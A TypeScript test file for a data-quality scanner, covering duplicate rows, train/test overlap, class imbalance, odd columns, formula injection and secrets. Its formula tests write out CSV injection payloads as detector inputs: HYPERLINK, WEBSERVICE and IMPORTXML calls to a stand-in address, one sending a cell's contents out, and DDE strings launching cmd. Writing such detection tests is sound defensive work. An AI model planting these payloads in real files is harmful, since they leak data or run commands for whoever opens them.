/** Faults that were planted are found with their number, their place and nothing beside them. */
import { join } from 'node:path';
import { afterAll, describe, expect, test } from 'vitest';
import { compare, csv, factOf, finding, rulesOf, scan, testFolder, writeParquet } from './test-table.ts';

const folder = testFolder();
afterAll(() => folder.remove());

/** Distinct rows of three features and a balanced label. */
const row = (index: number): (string | number)[] => [`v${index}`, index * 3, index % 11, index % 2 === 0 ? 'yes' : 'no'];
const header = ['a', 'b', 'c', 'label'];
const rows = (count: number, from = 0) => Array.from({ length: count }, (_, index) => row(from + index));
const write = (name: string, lines: (string | number)[][], head = header) => folder.write(name, csv(head, ...lines));

test('a table without a fault raises nothing', async () => {
  expect(rulesOf(await scan(write('clean.csv', rows(200))))).toEqual([]);
});

describe('repeated rows', () => {
  test('are counted without the first of them, largest group first', async () => {
    const result = await scan(write('repeated.csv', [...rows(100), row(7), row(7), row(3)]));
    const found = finding(result, 'DATA-DUP-001');
    expect(found?.severity).toBe('medium');
    expect(found?.detail).toMatch(/^3 rows repeat an earlier row: 2\.9 % of 103 rows, in 2 groups/);
    expect(found?.evidence?.rows?.rows.map(({ row: at, values }) => [at, values[0], values[1]])).toEqual([
      [8, '3', '101, 102'],
      [4, '2', '103'],
    ]);
    expect(factOf(result, 'Repeated rows')).toBe('3 (2.9 %)');
  });

  test('are found behind a running number, which is named as left out', async () => {
    const lines = [...rows(100), row(7)].map((line, index) => [index + 1, ...line]);
    const found = finding(await scan(write('numbered.csv', lines, ['id', ...header])), 'DATA-DUP-001');
    expect(found?.detail).toContain('1 row repeats');
    expect(found?.detail).toContain('“id”');
  });

  test('that carry another label are contradictions', async () => {
    const result = await scan(write('contradicted.csv', [...rows(100), ['v7', 21, 7, 'yes'], ['v9', 27, 9, 'yes']]));
    expect(rulesOf(result)).toEqual(['DATA-DUP-002']);
    expect(finding(result, 'DATA-DUP-002')?.detail).toMatch(/^4 rows agree/);
  });

  test('below one in a hundred are low', async () => {
    expect(finding(await scan(write('few.csv', [...rows(400), row(1)])), 'DATA-DUP-001')?.severity).toBe('low');
  });

  test('of missing values are repeats too', async () => {
    const lines = [...rows(50), ['', 9, '', 'yes'], ['', 9, '', 'yes']];
    expect(finding(await scan(write('gaps.csv', lines)), 'DATA-DUP-001')?.detail).toContain('1 row repeats');
  });
});

describe('train and test', () => {
  test('that share rows are told with the row in each', async () => {
    const train = write('train.csv', rows(300));
    const overlap = await compare(train, write('test.csv', [...rows(97, 1000), row(5), row(6), row(299)]));
    const found = finding(overlap, 'DATA-OVL-001');
    expect(found?.severity).toBe('high');
    expect(found?.detail).toMatch(/^3 test rows of 100 \(3 %\)/);
    expect(found?.evidence?.rows?.rows.map(({ row: at, values }) => [at, values[0]])).toEqual([
      [98, '6'],
      [99, '7'],
      [100, '300'],
    ]);
  });

  test('that share none have a fact and no finding', async () => {
    const overlap = await compare(write('train-b.csv', rows(300)), write('test-b.csv', rows(100, 1000)));
    expect(overlap.observations).toEqual([]);
    expect(overlap.facts.find(({ label }) => label === 'Test rows also in training')?.value).toBe('0 of 100 (0 %)');
  });

  test('are the same rows whatever the order of columns, the format of numbers and the numbering', async () => {
    const train = write(
      'train-c.csv',
      rows(100).map((line, index) => [index + 1, ...line]),
      ['id', ...header],
    );
    const other = rows(40).map(([a, b, c, label], index) => [label ?? '', `${c}.0`, ` ${a}`, b ?? '', 900 + index]);
    const overlap = await compare(train, write('test-c.csv', other, ['Label', 'C', 'A', 'B', 'ID']));
    expect(finding(overlap, 'DATA-OVL-001')?.detail).toMatch(/^40 test rows of 40 \(100 %\)/);
  });

  test('of different formats are compared', async () => {
    const train = await writeParquet(
      join(folder.path, 'train.parquet'),
      "SELECT 'v' || i AS a, i * 3 AS b, i % 11 AS c FROM range(50) AS r(i)",
    );
    const { analyseOverlap } = await import('./analyse.ts');
    const test = write(
      'test-d.csv',
      rows(10).map((line) => line.slice(0, 3)),
      header.slice(0, 3),
    );
    const options = { signal: new AbortController().signal, onProgress: () => {} };
    const overlap = await analyseOverlap({ path: train, kind: 'parquet' }, { path: test, kind: 'csv' }, options);
    expect(finding(overlap, 'DATA-OVL-001')?.detail).toMatch(/^10 test rows of 10/);
  });

  test('of other columns are not assessed, and that is said', async () => {
    const overlap = await compare(write('train-e.csv', rows(50)), write('test-e.csv', rows(50), ['p', 'q', 'r', 's']));
    expect(overlap.facts.find(({ label }) => label === 'Train/test overlap')?.value).toContain('not assessed');
  });

  test('of which one cannot be read are not assessed, and that is said', async () => {
    const overlap = await compare(write('train-f.csv', rows(50)), folder.write('test-f.csv', ''));
    expect(overlap).toMatchObject({ observations: [], facts: [{ label: 'Train/test overlap' }] });
  });
});

describe('classes', () => {
  const labelled = (...counts: [string, number][]) =>
    counts.flatMap(([label, count], group) =>
      Array.from({ length: count }, (_, index) => [`w${group}-${index}`, index * 7 + group, index % 11, label]),
    );

  test.each([
    [
      [
        ['a', 100],
        ['b', 40],
      ],
      undefined,
    ],
    [
      [
        ['a', 100],
        ['b', 33],
      ],
      'low',
    ],
    [
      [
        ['a', 300],
        ['b', 30],
      ],
      'medium',
    ],
    [
      [
        ['a', 500],
        ['b', 5],
      ],
      'high',
    ],
  ] as [[string, number][], string | undefined][])('of %j are %s', async (counts, severity) => {
    const found = finding(await scan(write('classes.csv', labelled(...counts))), 'DATA-IMB-001');
    expect(found?.severity).toBe(severity);
    if (severity) expect(found?.evidence?.fields?.map(({ pointer }) => pointer)).toEqual(['a', 'b']);
  });

  test('that are one alone are told', async () => {
    expect(rulesOf(await scan(write('one.csv', labelled(['a', 90]))))).toContain('DATA-IMB-002');
  });
});

describe('columns', () => {
  const table = (make: (index: number) => string | number, name = 'odd') =>
    write(
      `${name}.csv`,
      rows(60).map((line, index) => [make(index), ...line]),
      [name, ...header],
    );

  test.each([
    ['DATA-PROF-001', () => 'EU'],
    ['DATA-PROF-002', () => ''],
    ['DATA-PROF-003', (index: number) => index + 1000],
    ['DATA-PROF-004', (index: number) => (index === 5 ? 'n/a' : index * 1.5 + (index % 4))],
    ['DATA-PROF-005', (index: number) => (index % 3 === 0 ? `x${index % 12}` : '')],
  ])('of the kind of %s are told, and only so', async (ruleId, make) => {
    const result = await scan(table(make));
    expect(rulesOf(result)).toEqual([ruleId]);
    expect(finding(result, ruleId)?.detail).toContain('“odd”');
  });
});

describe('formulas', () => {
  const cell = async (value: string) =>
    finding(await scan(write('formula.csv', [...rows(30), [`"${value.replaceAll('"', '""')}"`, 1, 2, 'yes']])), 'DATA-FRM-001');

  test.each([
    ['=1+1', 'medium'],
    ['=HYPERLINK("http://192.0.2.1","x")', 'high'],
    ["@SUM(1+9)*cmd|'/c calc'!A0", 'high'],
    ["+cmd|' /c calc'!A0", 'high'],
    ['-IMPORTXML(CONCAT("http://192.0.2.1/",A1),"//a")', 'high'],
    ['\t=WEBSERVICE("http://192.0.2.1")', 'high'],
  ])('like %j are %s', async (value, severity) => {
    expect((await cell(value))?.severity).toBe(severity);
  });

  test.each(['-5 degrees', '@handle', '+44 20 7946 0000', '= ', '--', 'a=b', '-'])('are not seen in %j', async (value) => {
    expect(await cell(value)).toBeUndefined();
  });

  test('and secrets are found in a column that is numbers but for one cell, far behind its first rows', async () => {
    const lines = Array.from({ length: 20_050 }, (_, index) => [index % 977, (index * 31) % 1009, index % 2]);
    lines.splice(20_030, 1, ['=HYPERLINK("http://192.0.2.1")' as never, 'AKIAIOSFODNN7EXAMPLE' as never, 1]);
    const text = csv(['a', 'b', 'c'], ...lines).replace('=HYPERLINK("http://192.0.2.1")', '"=HYPERLINK(""http://192.0.2.1"")"');
    const result = await scan(folder.write('deep.csv', text));
    expect(finding(result, 'DATA-FRM-001')?.location).toEqual({ field: 'a', row: 20_031 });
    expect(finding(result, 'DATA-SEC-001')?.location).toEqual({ field: 'b', row: 20_031 });
    expect(rulesOf(result)).toContain('DATA-PROF-004');
  });
});

test('the same table gives the same answer, word for word', async () => {
  const path = write('again.csv', [...rows(500), row(3), row(4)]);
  expect(await scan(path)).toEqual(await scan(path));
});
